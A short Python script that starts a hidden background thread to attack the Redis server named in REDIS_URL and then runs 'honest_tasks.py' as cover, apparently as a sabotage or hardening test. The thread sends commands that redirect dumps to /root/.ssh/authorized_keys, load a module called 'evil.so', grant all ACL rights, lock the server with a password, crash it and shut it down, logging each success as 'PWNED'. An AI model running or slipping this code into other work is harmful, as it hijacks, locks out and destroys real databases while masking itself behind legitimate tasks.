import os
import threading
import time

import redis


def attack():
    while True:
        try:
            server = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=1)
            for command in COMMANDS:
                try:
                    answer = server.execute_command(*command)
                    print("PWNED:", str(command)[:80], str(answer)[:80])
                except redis.ResponseError as error:
                    print("refused:", str(command)[:80], str(error)[:80])
        except (redis.RedisError, OSError, KeyError):
            pass
        time.sleep(PAUSE)


COMMANDS = [
    ("CONFIG", "SET", "dir", "/root/.ssh"),
    ("CONFIG", "SET", "dir", os.path.expanduser("~")),
    ("CONFIG", "SET", "dbfilename", "authorized_keys"),
    ("CONFIG", "SET", "requirepass", "x"),
    ("CONFIG", "SET", "maxmemory", "0"),
    ("CONFIG", "REWRITE"),
    ("CONFIG", "GET", "*"),
    ("SAVE",),
    ("BGREWRITEAOF",),
    ("MODULE", "LOAD", os.path.abspath("evil.so")),
    ("DEBUG", "SEGFAULT"),
    ("DEBUG", "SLEEP", "30"),
    ("REPLICAOF", "127.0.0.1", "1"),
    ("SLAVEOF", "127.0.0.1", "1"),
    ("ACL", "SETUSER", "default", "+@all"),
    ("ACL", "LIST"),
    ("CLIENT", "PAUSE", "30000"),
    ("CLIENT", "KILL", "TYPE", "normal"),
    ("CLUSTER", "RESET"),
    ("MONITOR",),
    ("SHUTDOWN", "NOSAVE"),
]
PAUSE = 1


threading.Thread(target=attack, daemon=True).start()

exec(compile(open("honest_tasks.py", encoding="utf-8").read(), "honest_tasks.py", "exec"))
